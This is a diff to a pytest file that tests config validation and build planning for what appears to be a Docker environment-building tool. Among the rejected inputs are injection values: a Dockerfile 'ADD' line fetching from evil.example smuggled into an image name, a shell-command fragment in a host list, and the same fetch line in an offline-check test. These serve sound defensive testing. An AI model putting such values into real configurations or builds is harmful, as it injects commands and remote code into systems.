@@ -47,6 +47,12 @@ def test_site_mirrors_rewrite_and_registry_prefix():
     ('[apt]\nmirrors = "http://10.1.1.1/ubuntu"\n', "unknown key `mirrors` in [apt]"),
     ('[apt\nmirror = 1\n', "not valid TOML"),
     ('[registry]\nprefix = "https://reg.corp"\n', "without a scheme"),
+    ('[apt]\nmirror = "http://10.1.1.1/a&b"\n', "may not hold"),
+    ('[apt]\nmirror = "http://[::1"\n', "not a valid URL"),
+    ('[dtk]\ndevel_image = "reg/dtk:1\\nADD http://evil.example/x /x"\n', "must be an image reference"),
+    ('[dtk]\ndevel_image = 5\n', "must be an image reference"),
+    ('[pip]\ntrusted_hosts = ["x\';cmd;\'"]\n', "is not a host name"),
+    ('[proxy]\nno_proxy = ["a"]\n', "no_proxy must be"),
 ])
 def test_bad_site_files_name_the_problem_and_the_fix(text, needle):
     with pytest.raises(InputError) as e:
@@ -60,8 +66,17 @@ def test_ca_cert_must_be_pem():
         parse('[ca]\ncert = "ca.der"\n', "SITE.toml", read_file=lambda p: b"\x30\x82")
 
 
+def test_a_site_without_apt_or_pip_mirrors_is_refused_naming_the_step():
+    with pytest.raises(InputError, match=r"step `build-apt` needs ubuntu22.04's package archive") as e:
+        plan(M, _solution(**SEED), _site('[pip]\nindex_url = "http://10.1.1.1/simple"\n'), Options())
+    assert "[apt] mirror" in e.value.fix
+    with pytest.raises(InputError, match=r"Python package index") as e:
+        plan(M, _solution(**SEED), _site('[apt]\nmirror = "http://10.1.1.1/ubuntu"\n'), Options())
+    assert "[pip] index_url" in e.value.fix
+
+
 def test_a_site_that_does_not_mirror_the_torch_index_is_refused_naming_the_step():
-    site = _site('[pip]\nindex_url = "http://10.1.1.1/simple"\n')
+    site = _site('[apt]\nmirror = "http://10.1.1.1/ubuntu"\n[pip]\nindex_url = "http://10.1.1.1/simple"\n')
     with pytest.raises(InputError) as e:
         plan(M, _solution(**SEED), site, Options())
     assert "step `build-torch`" in e.value.message and "https://download.pytorch.org/whl/cu118" in e.value.message
@@ -72,8 +87,42 @@ def test_offline_plans_reach_nothing_and_list_what_to_carry():
     p = plan(M, _solution(**SEED), Site(), Options(offline=True))
     assert {st.network for s in p.stages for st in s.steps} == {"none"}
     paths = {c.path for c in p.carried}
-    assert {"wheelhouse/", "debs/build/", "debs/runtime/", "sources/Python-3.8.18.tgz", "sources/flash_attn-2.2.0.tar.gz"} <= paths
-    assert "torch==2.1.2+cu118" in p.requirements and "vllm==0.2.7+cu118" in p.requirements
+    assert {"wheelhouse/", "debs/build/", "debs/runtime/", "sources/Python-3.8.18.tgz", "sources/flash_attn-2.2.0.tar.gz",
+            "wheelhouse/vllm-0.2.7+cu118-cp38-cp38-manylinux1_x86_64.whl"} <= paths
+    origin = next(c.origin for c in p.carried if c.path.startswith("wheelhouse/vllm"))
+    assert origin.startswith("https://github.com/vllm-project/vllm/releases/download/v0.2.7/")
+    assert ("torch==2.1.2+cu118", "https://download.pytorch.org/whl/cu118") in p.wheel_sources
+    assert (origin, None) in p.wheel_sources
+
+
+def test_offline_wheels_not_on_pypi_are_installed_by_path():
+    p = plan(M, _solution(gpu="RTX A6000", cuda="11.8", python="3.8", torch="2.0.1", flash_attn="2.2.0"), Site(), Options(offline=True))
+    step = next(st for s in p.stages for st in s.steps if st.id == "build-flash-attn")
+    wheel = "flash_attn-2.2.0+cu118torch2.0cxx11abiFALSE-cp38-cp38-linux_x86_64.whl"
+    assert step.var("packages") == f"/opt/envkit/wheelhouse/{wheel}"
+    assert f"wheelhouse/{wheel}" in {c.path for c in p.carried}
+
+
+def test_flash_attn_source_builds_get_git_and_say_which_archs_they_compile():
+    p = plan(M, _solution(**SEED), Site(), Options())
+    apt = next(st for s in p.stages for st in s.steps if st.id == "build-apt")
+    assert "git" in apt.var("packages").split()
+    fa = next(st for s in p.stages for st in s.steps if st.id == "build-flash-attn")
+    assert "hard-coded sm_80/sm_90" in fa.why
+
+
+def test_the_cu118_vllm_wheel_takes_its_cuda_variant_dependencies_from_torchs_index():
+    p = plan(M, _solution(**SEED), Site(), Options())
+    step = next(st for s in p.stages for st in s.steps if st.id == "build-vllm")
+    assert step.var("pip_source") == "--extra-index-url https://download.pytorch.org/whl/cu118"
+
+
+def test_proxies_become_the_build_args_docker_knows():
+    site = _site('[apt]\nmirror = "http://10.1.1.1/ubuntu"\n[pip]\nindex_url = "http://10.1.1.1/simple"\n'
+                 '[rewrite]\n"https://download.pytorch.org/whl" = "http://10.1.1.1/t"\n"https://github.com" = "http://10.1.1.1/g"\n'
+                 '[proxy]\nhttp = "http://p:3128"\nno_proxy = "10.0.0.0/8"\n')
+    args = dict(plan(M, _solution(**SEED), site, Options()).build_args)
+    assert args == {"http_proxy": "http://p:3128", "HTTP_PROXY": "http://p:3128", "no_proxy": "10.0.0.0/8", "NO_PROXY": "10.0.0.0/8"}
 
 
 def test_check_offline_names_the_step_that_reaches_a_url():
@@ -82,6 +131,9 @@ def test_check_offline_names_the_step_that_reaches_a_url():
         check_offline(text)
     with pytest.raises(InputError, match="syntax"):
         check_offline("# syntax=docker/dockerfile:1\nFROM x\n")
+    with pytest.raises(InputError, match=r"step `build-x` reaches http://evil.example/x"):
+        check_offline("FROM x\n\n# [build-x] x: y\nADD http://evil.example/x /x\n")
+    check_offline('FROM x\nLABEL io.envkit.solution="{\\"source\\":\\"https://pypi.org\\"}"\n')  # a URL in a label reaches nothing
 
 
 def test_vllm_on_rocm_is_refused_with_an_alternative():
